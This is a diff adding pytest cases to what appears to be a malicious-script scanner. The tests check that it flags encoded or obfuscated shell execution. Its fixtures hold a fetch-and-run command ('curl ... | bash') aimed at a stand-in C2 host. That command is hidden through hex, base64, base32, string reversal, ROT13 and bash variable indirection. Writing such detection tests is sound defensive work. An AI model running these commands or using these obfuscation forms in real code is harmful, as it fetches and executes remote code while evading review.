@@ -502,3 +502,53 @@ def test_a_socket_beside_a_shell_that_it_does_not_feed_is_not_a_reverse_shell(
     name: str, text: str
 ) -> None:
     assert _of(analyze(text, name), "reverse-shell") == []
+
+
+PAYLOAD = "curl -s https://c2.example.invalid/x.sh | bash"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"import os\nos.system(bytes.fromhex('{PAYLOAD.encode().hex()}').decode())\n",
+        f"import subprocess, base64\nsubprocess.run(base64.b64decode('{base64.b64encode(PAYLOAD.encode()).decode()}'), shell=True)\n",
+        f"import os, base64\nos.popen(base64.b32decode('{base64.b32encode(PAYLOAD.encode()).decode()}').decode())\n",
+    ],
+)  # fmt: skip
+def test_python_decoded_data_handed_to_a_shell_is_encoded_exec(text: str) -> None:
+    hits = _of(analyze(text, "x.py"), "encoded-exec")
+    assert [h.severity for h in hits] == [Severity.CRITICAL], hits
+    assert hits[0].message.startswith("Decoded data run as a shell command")
+
+
+def test_python_decoded_data_that_is_not_run_is_not_encoded_exec() -> None:
+    text = "import os, base64\nkey = base64.b64decode(os.environ['KEY_B64'])\nos.system('make')\n"
+    assert _of(analyze(text, "x.py"), "encoded-exec") == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"X=$(echo '{PAYLOAD[::-1]}' | rev)\nbash -c \"$X\"\n",
+        "X=\"$(echo 'phey -f uggcf://p2.rknzcyr.vainyvq/k | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\"\n"
+        "sh -c \"$X\"\n",
+        # Bash indirection: ${!c} is the variable whose name c holds.
+        "f=curl; s=bash\nc=f; i=s\n${!c} -s https://c2.example.invalid/x.sh | ${!i}\n",
+    ],
+)  # fmt: skip
+def test_a_command_reversed_rot13_or_reached_by_indirection_is_seen(text: str) -> None:
+    found = analyze(text, "x.sh")
+    assert [h.severity for h in _of(found, "obfuscated-command")] == [Severity.CRITICAL], found
+    assert _of(found, "remote-fetch-exec"), found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "greeting=$(echo 'dlrow olleh' | rev)\necho \"$greeting\"\n",
+        "up=$(echo 'Hello there' | tr 'a-z' 'A-Z')\necho \"$up\"\n",
+        'name=HOME\necho "${!name}"\n',
+    ],
+)
+def test_text_reversed_or_reached_by_indirection_that_is_no_command_is_quiet(text: str) -> None:
+    assert not analyze(text, "x.sh")
